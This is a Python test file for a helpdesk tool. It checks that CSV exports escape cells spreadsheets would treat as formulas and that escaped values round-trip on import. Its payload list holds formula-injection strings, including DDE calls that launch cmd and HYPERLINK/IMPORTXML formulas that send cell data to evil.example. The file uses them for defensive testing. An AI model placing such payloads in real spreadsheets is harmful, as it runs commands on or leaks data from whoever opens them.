"""Tickets as CSV: what a spreadsheet would run is made harmless, and comes back as it was."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from helpdesk_tui.desk import tickets
from helpdesk_tui.domain.people import Role
from helpdesk_tui.errors import NotAllowed
from helpdesk_tui.exchange import csv_export
from helpdesk_tui.exchange.csv_list import import_csv
from helpdesk_tui.exchange.formula import MARKER, escaped, unescaped
from tests.builders import a_person, a_ticket, an_organization, desk_of

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
    "=IMPORTXML(CONCAT(\"http://evil.example?\",A1),\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "    @SUM(A1)",
    "＝1+1",
    "＋1",
    "－1+2",
    "＠SUM(A1)",
    "'=1+1",
    "''=1+1",
    "' =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u22121+2",
    "=\"a\"\",b\"",
    "=1+1\";=2+2",
    ";=1+1",
    ",=1+1",
    "--help",
    "-",
    "@here: please read",
    "+372 5555 5555",
]  # fmt: skip


def exported(desk, query="", *, raw=False):
    stream = io.StringIO(newline="")
    csv_export.export(desk, desk.ask(query), stream, raw=raw)
    return stream.getvalue()


def rows(text):
    lines = text.split("\r\n", 1)[1] if text.startswith(MARKER) else text
    return list(csv.DictReader(io.StringIO(lines, newline="")))


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_no_cell_begins_as_a_formula(payload):
    assert escaped(payload).startswith("'") or payload[0] in ";,"


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_taking_the_escape_back_gives_the_cell(payload):
    assert unescaped(escaped(payload)) == payload


@given(st.text(alphabet=st.sampled_from("'=+-@ \t\r\n＝＋－＠a1.\u00a0"), max_size=8))
def test_every_text_comes_back(text):
    assert unescaped(escaped(text)) == text


@pytest.mark.parametrize("number", ["-5", "+3", "-0.25", "42", "1999-12-31"])
def test_numbers_and_dates_stay_as_they_are(number):
    assert escaped(number) == number


@pytest.mark.parametrize("name", ["'t Hooft", "O'Brien", "a=b", "5-6"])
def test_harmless_texts_stay_as_they_are(name):
    assert escaped(name) == name


def test_every_payload_survives_export_and_import(desk, new_desk, tmp_path):
    for payload in PAYLOADS:
        a_ticket(desk, f"x{payload}".replace("\n", " "), description=payload)
    path = tmp_path / "out.csv"
    path.write_text(exported(desk, "sort:number"), encoding="utf-8", newline="")
    other = new_desk("other")
    report = import_csv(other, path)
    assert (report.created, report.skipped) == (len(PAYLOADS), ())
    before, after = (
        [
            (card.title, tickets.open_ticket(each, card.number).description)
            for card in tickets.find(each, each.ask("sort:number"), limit=None)
        ]
        for each in (desk, other)
    )
    assert after == before


def test_all_fields_survive_export_and_import(desk, new_desk, tmp_path):
    acme = an_organization(desk, "=Acme")
    a_person(desk, "Bob Builder")
    dana = a_person(desk, "דנה כהן", role=Role.REQUESTER, login="", organization=acme)
    change = "+vpn +printer assignee:bob priority:high status:blocked kind:incident impact:low due:2026-12-01 to:doing"
    a_ticket(desk, "@A", change, requester_id=dana, language="he")
    a_ticket(desk, "B", "to:done")
    path = tmp_path / "out.csv"
    path.write_text(exported(desk, "sort:number"), encoding="utf-8", newline="")
    import_csv(new_desk("other"), path)
    kept = [column for column in csv_export.COLUMNS if column not in {"updated"}]
    first, second = (rows(exported(each, "sort:number")) for each in (desk, new_desk("other")))
    assert [[row[column] for column in kept] for row in second] == [[row[column] for column in kept] for row in first]


def test_the_file_says_that_it_is_escaped(desk):
    assert exported(desk).startswith("#board-csv 1 escaped\r\nnumber,title,")


def test_a_raw_file_is_exact_and_says_nothing(desk):
    a_ticket(desk, "=1+1")
    text = exported(desk, raw=True)
    assert text.startswith("number,title,")
    assert rows(text)[0]["title"] == "=1+1"


def test_an_apostrophe_of_a_file_without_the_mark_is_kept(desk, written):
    import_csv(desk, written("list.csv", "title\n'=1+1\n"))
    assert [card.title for card in tickets.find(desk, desk.ask(""))] == ["'=1+1"]


def test_the_query_selects_and_orders(desk):
    for title in ("B", "A", "C"):
        a_ticket(desk, title, "+vpn" if title != "C" else "")
    assert [row["title"] for row in rows(exported(desk, "label:vpn sort:title"))] == ["A", "B"]


def test_requesters_export_nothing(desk):
    with pytest.raises(NotAllowed):
        exported(desk_of(desk, Role.REQUESTER))
